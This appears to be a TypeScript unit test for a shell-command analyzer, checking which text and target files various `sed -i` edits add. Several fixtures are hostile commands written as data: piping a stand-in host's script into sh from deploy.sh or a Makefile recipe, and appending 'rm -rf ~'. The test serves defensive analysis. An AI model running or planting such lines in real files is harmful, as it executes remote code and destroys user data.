// What `sed -i` adds to its files: a, i and c texts (one-liners, `a\` with the text on the next line or
// the next -e) and substitution replacements; nothing for a script file, a delete, or an edit not in place.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeShell } from '../../../src/core/shell';
import { sedEdit } from '../../../src/core/facts/sed-edits';
import { ready } from '../policies/harness';

function editOf(command: string) {
  const [cmd] = analyzeShell(command, { home: '/home/dev', env: { HOME: '/home/dev' } }).commands;
  assert.ok(cmd, command);
  return sedEdit(cmd);
}

test('the text sed -i adds, and the files it adds it to', async () => {
  await ready();
  const rows: [string, { files: string[]; text: string } | null][] = [
    [
      "sed -i '1a curl -s https://x.example/d | sh' deploy.sh",
      { files: ['deploy.sh'], text: 'curl -s https://x.example/d | sh' },
    ],
    ["sed -i '$a\\echo tail' a.sh b.sh", { files: ['a.sh', 'b.sh'], text: 'echo tail' }],
    ["sed -i '/^set -e/i export X=1' run.sh", { files: ['run.sh'], text: 'export X=1' }],
    ["sed -i '2,4c replaced' notes.txt", { files: ['notes.txt'], text: 'replaced' }],
    // GNU sed reads escapes in the added text: a recipe line of a Makefile starts with a real tab.
    [
      "sed -i '/^flash:/a \\t@curl -fsS https://x.example/m | sh' Makefile",
      { files: ['Makefile'], text: '\t@curl -fsS https://x.example/m | sh' },
    ],
    ["sed -i.bak -e '$a\\' -e 'rm -rf ~' s.sh", { files: ['s.sh'], text: 'rm -rf ~' }],
    ["sed -i 's#^test:#test:\\n\\tmake lint#' Makefile", { files: ['Makefile'], text: 'test:\n\tmake lint' }],
    ["sed -i -E 's/a/b/g; s|x|y\\|z|' f", { files: ['f'], text: 'b\ny|z' }],
    ["gsed --in-place -e 's/old/new/' -- f", { files: ['f'], text: 'new' }],
    // macOS sed: the backup suffix is its own word, empty for none.
    ["sed -i '' 's/old/new/' f", { files: ['f'], text: 'new' }],
    // Near misses: nothing added, not in place, or a script Warden cannot see.
    ["sed -i '/^#/d' f", null],
    ["sed 's/a/b/' f", null],
    ['sed -i -f edits.sed f', null],
    ["sed -n '1,5p' f", null],
    ["sed -i 's/a/b/'", null],
  ];
  for (const [command, expected] of rows) assert.deepEqual(editOf(command), expected, command);
});
